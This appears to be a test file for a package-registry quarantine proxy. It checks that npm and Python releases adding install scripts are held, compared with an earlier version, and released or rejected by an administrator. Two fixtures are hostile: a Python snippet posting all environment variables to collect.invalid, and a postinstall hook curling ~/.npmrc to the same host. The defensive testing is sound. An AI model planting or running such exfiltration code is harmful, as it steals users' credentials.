import t from 'tap'
import { npmTarball, wheel, type BuiltNpm } from '../registry/build.ts'
import { startWorld } from '../registry/registry.ts'
import { holdLazaret, type HeldLazaret } from './in-process.ts'

const OLD = '2022-01-02T03:04:05.000Z'
const MINUTE = 60_000
const ada = { actor: { kind: 'user', name: 'ada' }, role: 'admin' } as const

const THEFT = `import os, urllib.request
def report():
    urllib.request.urlopen("https://collect.invalid/x", data=repr(dict(os.environ)).encode())
report()
`

const world = await startWorld()
let held: HeldLazaret | undefined
t.teardown(async () => {
  await held?.stop()
  await world.close()
})
const lazaret = await holdLazaret({ world, dataDir: t.testdir({}) })
held = lazaret

/** The road of one package: one Lazaret stands for all situations, and each has a package of its own. */
function road(name: string) {
  const build = (version: string, more: Partial<Parameters<typeof npmTarball>[0]> = {}): BuiltNpm =>
    npmTarball({ name, version, ...more })
  const cases = async (state?: 'open') =>
    (await lazaret.app.store.records.cases(state === undefined ? {} : { state }, { limit: 50 })).filter(
      (row) => row.case.artifact.name === name,
    )
  return {
    build,
    plain: (version: string): BuiltNpm => build(version),
    hooked: (version: string): BuiltNpm =>
      build(version, {
        manifest: { scripts: { postinstall: 'node ok.js' } },
        files: { 'ok.js': 'console.log("thank you")\n' },
      }),
    asked: (version: string): number =>
      world.requests.filter(({ url }) => url === `/npm/${name}/-/${name}-${version}.tgz`).length,
    publish: (...releases: readonly BuiltNpm[]) => {
      for (const built of releases)
        world.npm.publish({ built, publishedAt: OLD, ...(/-/.test(built.version) ? { tag: 'next' } : {}) })
    },
    ask: (version: string) => fetch(`${lazaret.npmUrl}${name}/-/${name}-${version}.tgz`),
    cases,
    only: async () => {
      const [row] = await cases('open')
      if (row === undefined) throw new Error('there is an open case')
      return row.case
    },
    file: async (filename: string) => {
      const page = `${lazaret.pypiUrl}${name}/`
      const answer = await fetch(page, { headers: { accept: 'application/vnd.pypi.simple.v1+json' } })
      const { files } = (await answer.json()) as { files: { filename: string; url: string }[] }
      const url = files.find((one) => one.filename === filename)?.url ?? 'not-listed'
      return fetch(new URL(url, page))
    },
  }
}

t.test('a version that nobody asked for is no stepping stone, and neither is a pre-release', async (t) => {
  const r = road('stones')
  r.publish(r.plain('1.0.0'), r.hooked('1.0.1-rc.1'), r.hooked('1.0.1'), r.hooked('1.0.2'), r.hooked('1.0.3'))
  const answer = await r.ask('1.0.3')
  t.equal(answer.status, 403)
  t.match(answer.statusText, /new-install-script.*1\.0\.0/)
  t.equal((await r.ask('1.0.2')).status, 403)
  t.equal((await r.ask('1.0.0')).status, 200)
})

t.test('one that a person rejected is none either; one that a person released is', async (t) => {
  const r = road('decided')
  r.publish(r.plain('1.0.0'), r.hooked('1.0.1'), r.hooked('1.0.2'))
  t.equal((await r.ask('1.0.1')).status, 403)
  const { desk } = lazaret.app
  const { id } = await r.only()
  await desk.decisions.reject(ada, id, { reason: 'it steals' })
  t.equal((await r.ask('1.0.2')).status, 403)
  await desk.decisions.reverse(ada, id, { reason: 'it does not' })
  await desk.releases.release(ada, id, { scope: { kind: 'digest' }, reason: 'it thanks' })
  t.equal((await r.ask('1.0.1')).status, 200, 'released')
  t.equal((await r.ask('1.0.2')).status, 200, 'and what comes after it brings nothing new')
})

t.test(
  'the desk shows what the verdict compared with, and what it would have where nothing hung on that',
  async (t) => {
    const r = road('shown')
    const { desk } = lazaret.app
    const thief = r.build('2.0.0', {
      manifest: { scripts: { postinstall: 'curl -d "$(cat ~/.npmrc)" https://collect.invalid/x' } },
    })
    r.publish(
      r.plain('1.0.0'),
      r.hooked('1.0.1-rc.1'),
      r.hooked('1.0.1'),
      r.hooked('1.0.2-rc.1'),
      r.hooked('1.0.2'),
      thief,
    )
    for (const version of ['1.0.1-rc.1', '1.0.1', '1.0.2-rc.1', '1.0.2', '2.0.0'])
      t.equal((await r.ask(version)).status, 403, version)
    const rows = await r.cases()
    t.equal(rows.length, 5)
    for (const row of rows) {
      const { artifact } = row.case
      const { comparison, verdict } = await desk.cases.one(row.case.id)
      t.equal(comparison?.base, '1.0.0', artifact.version)
      t.match(comparison?.differences, [{ aspect: 'Install scripts', addedCount: 1 }], artifact.version)
      if (artifact.version !== '2.0.0') t.equal(verdict?.base?.version, '1.0.0', `${artifact.version}: recorded`)
      const why = await desk.whys.of(row.case.id, artifact)
      t.equal(why.files[0]?.comparison?.base, '1.0.0', `${artifact.version}: on its page`)
    }
  },
)

t.test('a wheel, too', async (t) => {
  const r = road('wheels')
  for (const [version, code] of [
    ['1.0', ''],
    ['1.1', THEFT],
    ['1.2', THEFT],
  ] as const)
    world.pypi.publish({
      built: wheel({ name: 'wheels', version, files: { 'wheels/__init__.py': code } }),
      publishedAt: OLD,
    })
  t.equal((await r.file('wheels-1.2-py3-none-any.whl')).status, 403)
  t.equal((await r.file('wheels-1.0-py3-none-any.whl')).status, 200)
})

t.test('a version before that cannot be had holds the next one until it can', async (t) => {
  const r = road('missing')
  r.publish(r.hooked('1.0.0'), r.hooked('1.0.1'))
  const restore = world.misbehave('/npm/missing/-/missing-1.0.0.tgz', { kind: 'status', status: 404 })
  const first = await r.ask('1.0.1')
  t.equal(first.status, 403)
  t.match(first.statusText, /missing@1\.0\.1 is held \(base-unavailable\)/)
  const before = r.asked('1.0.0')
  t.equal((await r.ask('1.0.1')).status, 403)
  t.equal(r.asked('1.0.0'), before, 'upstream is left alone for a while')
  restore()
  lazaret.wait(MINUTE)
  t.equal((await r.ask('1.0.1')).status, 200, 'nothing is new in it')
})

t.test('and where that lasts, a person is asked, who can let it pass', async (t) => {
  const r = road('lasting')
  r.publish(r.hooked('1.0.0'), r.hooked('1.0.1'))
  world.misbehave('/npm/lasting/-/lasting-1.0.0.tgz', { kind: 'status', status: 404 })
  const { desk } = lazaret.app
  t.equal((await r.ask('1.0.1')).status, 403)
  t.same(await r.cases(), [], 'not at once')
  lazaret.wait(30 * MINUTE)
  t.match((await r.ask('1.0.1')).statusText, /held/)
  lazaret.wait(31 * MINUTE)
  t.match((await r.ask('1.0.1')).statusText, /quarantined \(base-unavailable\)/)
  const { id } = await r.only()
  await desk.releases.release(ada, id, { scope: { kind: 'digest' }, reason: 'read it all' })
  t.equal((await r.ask('1.0.1')).status, 200)
})

t.test('what would be served though all of it were new asks for nothing', async (t) => {
  const r = road('unasked')
  r.publish(r.plain('1.0.0'), r.plain('1.0.1'))
  t.equal((await r.ask('1.0.1')).status, 200)
  t.equal(r.asked('1.0.0'), 0)
})

const plainOf = (name: string, version: string): BuiltNpm => npmTarball({ name, version })
const hookedOf = (name: string, version: string): BuiltNpm =>
  npmTarball({ name, version, manifest: { scripts: { postinstall: 'echo thank you' } } })

t.test('where upstream lists nothing that is earlier any more, it is compared with what it listed once', async (t) => {
  const table: readonly (readonly [
    name: string,
    before: BuiltNpm | undefined,
    isAsked: boolean,
    after: BuiltNpm,
    status: number,
    said: RegExp,
  ])[] = [
    ['served', plainOf('served', '1.0.0'), true, hookedOf('served', '1.0.1'), 403, /new-install-script.*1\.0\.0/],
    ['lower', plainOf('lower', '5.0.0'), true, hookedOf('lower', '1.0.0'), 403, /new-install-script.*5\.0\.0/],
    ['same-script', hookedOf('same-script', '1.0.0'), true, hookedOf('same-script', '1.0.1'), 200, /^/],
    ['listed', plainOf('listed', '1.0.0'), false, hookedOf('listed', '1.0.1'), 403, /held \(base-unavailable\)/],
    ['harmless', plainOf('harmless', '1.0.0'), false, plainOf('harmless', '1.0.1'), 200, /^/],
    ['first', undefined, false, hookedOf('first', '1.0.1'), 200, /^/],
  ]
  const ask = (built: BuiltNpm) => fetch(`${lazaret.npmUrl}${built.name}/-/${built.filename}`)
  // What a client will want is fetched ahead, as soon as its page is read: this one cannot be.
  world.misbehave('/npm/listed/-/listed-1.0.0.tgz', { kind: 'status', status: 404 })
  for (const [name, before, isAsked] of table) {
    if (before === undefined) continue
    world.npm.publish({ built: before, publishedAt: OLD })
    if (isAsked) t.equal((await ask(before)).status, 200, name)
    else t.equal((await fetch(`${lazaret.npmUrl}${name}`)).status, 200, name)
  }
  for (const [name, before, , after] of table) {
    world.npm.publish({ built: after, publishedAt: OLD })
    if (before !== undefined) world.npm.unpublish(name, before.version)
  }
  lazaret.wait(MINUTE)
  for (const [name, , , after, status, said] of table) {
    await fetch(`${lazaret.npmUrl}${name}`)
    const answer = await ask(after)
    t.equal(answer.status, status, name)
    t.match(answer.statusText, said, name)
  }
})
